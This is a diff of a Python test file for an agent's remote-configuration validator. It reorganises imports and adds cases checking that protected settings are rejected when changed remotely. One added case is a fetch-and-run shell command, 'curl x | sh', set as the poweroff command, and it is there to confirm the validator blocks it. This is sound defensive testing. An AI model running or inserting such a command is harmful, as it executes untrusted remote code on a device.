@@ -15,22 +15,19 @@ import pytest
 
 from agent.config import AgentConfig
 from agent.config_validate import parse_config
+from agent.core.key_rules import DEFAULT_RULE, KEY_RULES, rule_for
+from agent.core.remote_command import COMMANDS, parse_command
 from agent.core.remote_config import (
-    COMMANDS,
-    DEFAULT_RULE,
-    KEY_RULES,
-    MAX_PAYLOAD_BYTES,
     ConfigOutcome,
     ConfigState,
     current_message,
-    RecentIds,
-    RollbackGuard,
     handle_config_set,
     merge_overlay,
-    parse_command,
     rolled_back_result,
-    rule_for,
 )
+from agent.core.replay import RecentIds
+from agent.core.requests import MAX_PAYLOAD_BYTES
+from agent.core.rollback_guard import RollbackGuard
 
 UTC = dt.timezone.utc
 NOW = dt.datetime(2025, 3, 1, 12, 0, 0, tzinfo=UTC)
@@ -254,6 +251,10 @@ def test_exactly_64_kib_is_accepted(state: ConfigState) -> None:
         ({"unit": None}, "config.unit", "unit.id may not be changed remotely"),
         ({"storage": {"state_dir": "/tmp/x"}}, "config.storage.state_dir", "may not be changed remotely"),
         ({"ui": {"host": "0.0.0.0"}}, "config.ui.host", "may not be changed remotely"),
+        # A shell command run as the agent: never from the network.
+        ({"power": {"poweroff_command": "curl x | sh"}}, "config.power.poweroff_command",
+         "may not be changed remotely"),
+        ({"power": {"ignition_pin": 5}}, "config", "is also gpio 'available'"),
         ({"security": {"admin_keys": ["AAAA"]}}, "config.security.admin_keys", "signing is not configured"),
         ({"security": None}, "config.security", "signing is not configured"),
     ],
